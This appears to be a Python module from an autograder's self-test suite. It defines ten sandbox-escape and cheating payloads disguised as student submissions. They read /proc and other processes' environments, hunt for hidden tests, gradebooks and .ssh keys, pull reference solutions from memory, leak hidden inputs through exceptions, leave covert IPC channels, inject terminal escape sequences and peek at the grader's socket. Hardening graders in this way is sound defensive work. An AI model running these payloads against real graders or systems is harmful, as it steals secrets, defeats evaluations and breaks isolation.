"""Attacks that look for secrets: answers, hidden inputs, other people's work. A secret that is found is reported: LOOT."""

from autograder.selftest.attack.bank import FORGED, MARK, SOLVED, STUB, Attack

SEARCH = '''
import os

WORDS = (b"honey-", b"GRADEBOOK_PASSWORD", b"BEGIN SOLUTION", b"pytest.mark.exercise", b"def test_the_")


def look_into(paths):
    secrets = []
    for path in paths:
        try:
            with open(path, "rb") as file:
                data = file.read(1 << 20)
        except (OSError, ValueError):
            continue
        secrets += [(path, word) for word in WORDS if word in data]
    return secrets


def shout(secrets):
    if secrets:
        raise RuntimeError(f"LOOT {secrets[:5]}")
'''

PROC = SEARCH + '''
names = ("environ", "cmdline", "maps", "mem", "mountinfo", "fdinfo/3", "fd/3", "root/etc/passwd", "cwd/README.md", "auxv",
         "task/1/environ", "stack", "map_files")
pids = ["self", "thread-self", *(name for name in os.listdir("/proc") if name.isdigit())]
shout(look_into(f"/proc/{pid}/{name}" for pid in pids if pid != str(os.getpid()) for name in names))
shout(look_into(("/proc/1/environ", "/proc/self/environ", "/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/config.gz")))
shout([name for name in os.environ if any(word in name for word in ("PASSWORD", "SECRET", "TOKEN", "KEY", "GRADE"))])
'''

GUESSES = SEARCH + '''
import glob
import sys

roots = ["/", ".", "..", "/work", "/srv", "/home", "/root", "/opt", "/tmp", "/var", "/mnt", "/media", "/usr/src"]
with open("/proc/self/mountinfo") as file:
    for line in file:  # where the host keeps what is mounted here
        roots += [line.split()[3], os.path.dirname(line.split()[3])]
wanted = ("tests/hidden/PS/*.py", "hidden/PS/*.py", "solutions/*.py", "edition.secret", "gradebook.db", "reports/*/*.json",
          "submitted/*/PS/*", "../../*/PS/*", "*/.cache/*/*.json", ".ssh/*", "../solutions/*.py", "../../tests/hidden/PS/*")
shout(sorted({path for root in roots for name in wanted
              for path in glob.glob(os.path.join(root, name.replace("PS", "ps2_uct"))) if "hostile" not in path}))
'''

WALK = SEARCH + '''
_bound = ucb


def ucb(node, exploration):
    """Read every file that there is, once."""
    if not globals().get("looked"):
        globals()["looked"] = True
        tops = ("/opt/site/arena", "/opt/worker", "/etc", "/dev", "/tmp", "/run", "/var", "/home", "/root")
        shout(look_into(os.path.join(top, name) for root in tops for top, _, files in os.walk(root) for name in files
                        if name not in ("zero", "random", "urandom", "full", "tty", "ptmx")))
    return _bound(node, exploration)
'''

IMPORTS = '''
import importlib
import sys

sys.path += ["/", ".", "..", "/work", "/opt", "/srv", "/root", "/usr/src"]
secrets = []
for name in ("autograder", "autograder.grading.outcomes", "solutions.ps2_uct", "solutions", "tests.hidden.ps2_uct", "tests",
             "arena.players", "arena.players.uct", "arena.players.solver", "arena.match", "pytest", "nbgrader", "sqlalchemy"):
    try:
        secrets.append(importlib.import_module(name).__name__)
    except ImportError:
        pass
if secrets:
    raise RuntimeError(f"LOOT {secrets}")
'''

REFERENCE = '''
import gc
import types


def stolen(name):
    """A function that looks for ours of the same name when it is called: somewhere in memory it may lie."""

    def thief(*args, **kwargs):
        for thing in gc.get_objects():
            if isinstance(thing, types.FunctionType) and thing.__name__ == name and thing.__code__.co_filename == "<reference>":
                return thing(*args, **kwargs)
        raise LookupError(name)

    return thief


NAMES = ("epsilon_greedy", "ucb1", "random_policy", "simulate", "expand", "backpropagate", "ucb", "best_child", "select",
         "search", "recursive_search", "self_play")
globals().update({name: stolen(name) for name in NAMES})
TreeNode.is_terminal, TreeNode.is_fully_expanded = stolen("is_terminal"), stolen("is_fully_expanded")
'''

CARRIED_OUT = '''
def forged(*args, **kwargs):
    """Carry the hidden inputs out in an error: its text, its kind, its notes, its causes, its file."""
    words = f"told {args!r} {kwargs!r}"
    error = type(words, (ValueError,), {"__module__": words, "__qualname__": words})(words)
    error.__notes__ = [words]
    error.__cause__ = KeyError(words)
    print(words)
    exec(compile("raise error", words, "exec"), {"error": error, "__name__": words})
'''

STUB_ERROR = '''
def forged(*args, **kwargs):
    """Carry them out in the stub's own error, which a report takes for an exercise that is not written."""
    raise NotImplementedError(f"exercise told {args!r} {kwargs!r} is not written yet")
'''

MESSAGES = f'''
import ctypes
import os
import socket
import time

libc = ctypes.CDLL(None, use_errno=True)
KEY = b"{MARK}"
PLACES = ("/tmp", "/dev/shm", "/dev/mqueue", "/run", "/var/tmp", "/opt", "/", "/proc/self", "/dev")
secrets = []

# first look for what the exercise before has left ...
for place in PLACES:
    if os.path.lexists(f"{{place}}/{MARK}"):
        secrets.append(place)
if libc.syscall(249, b"user", KEY, None, -3) > 0 or libc.syscall(250, 10, -3, b"user", KEY, 0) > 0:
    secrets.append("a key")
if libc.shmget(0x5EED, 4096, 0) >= 0 or libc.msgget(0x5EED, 0) >= 0 or libc.semget(0x5EED, 1, 0) >= 0:
    secrets.append("memory")
try:
    socket.socket(socket.AF_UNIX).connect("\\0{MARK}")
    secrets.append("a socket")
except OSError:
    pass
try:
    import numpy
    import random
    if getattr(numpy, "left", None) or getattr(random, "left", None) or os.environ.get("LEFT"):
        secrets.append("a module")
except ImportError:
    pass
if secrets:
    raise RuntimeError(f"LOOT {{secrets}}")

# ... then leave it for the next
for place in PLACES:
    for make in (os.mkdir, os.mkfifo, lambda path: os.symlink("/", path), lambda path: open(path, "w").close()):
        try:
            make(f"{{place}}/{MARK}")
        except OSError:
            pass
libc.syscall(248, b"user", KEY, b"hello", 5, -4)
libc.shmget(0x5EED, 4096, 0o1666), libc.msgget(0x5EED, 0o1666), libc.semget(0x5EED, 1, 0o1666)
numpy.left = random.left = True
os.environ["LEFT"] = "1"
if os.fork() == 0:
    try:
        os.setsid()
        waiting = socket.socket(socket.AF_UNIX)
        waiting.bind("\\0{MARK}")
        waiting.listen()
    finally:  # refused or not, this process stays; without it two workers would answer each question
        while True:
            time.sleep(60)
'''

TERMINAL = '''
def forged(*args, **kwargs):
    """Text that acts on the terminal of whoever reads the staff's report."""
    text = "\\x1b]0;PWNED\\x07\\x1b[2J\\x1b]52;c;UFdORUQ=\\x07\\u202e\\x9b2J"
    raise type(text, (Exception,), {})(text)
'''

PEEK = '''
import socket

line, honest_ucb = socket.socket(fileno=3), ucb


def ucb(node, exploration):
    """Look whether the grader's next question is in the socket already, before this one is answered."""
    try:
        ahead = line.recv(1 << 16, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except BlockingIOError:
        ahead = b""
    if ahead:
        raise RuntimeError(f"LOOT {ahead[:200]}")
    return honest_ucb(node, exploration)
'''

ATTACKS = (
    Attack("every process read", "Reads environment, memory, files and mounts of all processes in /proc.", PROC, base=SOLVED,
           points=100.0, stock=True, quick=True),
    Attack("answers where they might lie", "Looks for hidden tests, solutions, gradebooks and keys in every likely folder.",
           GUESSES,
           base=SOLVED, points=100.0, stock=True),
    Attack("every file read", "Reads all files that it can open, in search of answers.", WALK, base=SOLVED, points=100.0),
    Attack("imports of ours", "Imports the grader, the solutions, the hidden tests and the bots.", IMPORTS, base=SOLVED,
           points=100.0),
    Attack("our own versions, found in memory", "Answers with our solution, if it finds the solution in the process.", REFERENCE,
           base=STUB),
    Attack("hidden inputs told by errors", "Puts the hidden inputs into exceptions, so that its report shows them.", CARRIED_OUT,
           silent=("told",), says="An exception of your own"),
    Attack("hidden inputs told by the stub", "Puts the hidden inputs into the error that says 'not written yet'.", STUB_ERROR,
           base=FORGED, silent=("told",)),
    Attack("messages to the next exercise", "Leaves keys, files, sockets and memory for its next process to find.",
           MESSAGES,
           base=SOLVED, points=100.0),
    Attack("text that a terminal obeys", "Sends escape sequences to the terminal of a reader of the staff's report.", TERMINAL,
           silent=("\\u001b", "PWNED")),
    Attack("the next question read ahead", "Reads ahead on the line, to see the grader's next question.", PEEK, base=SOLVED,
           points=100.0),
)
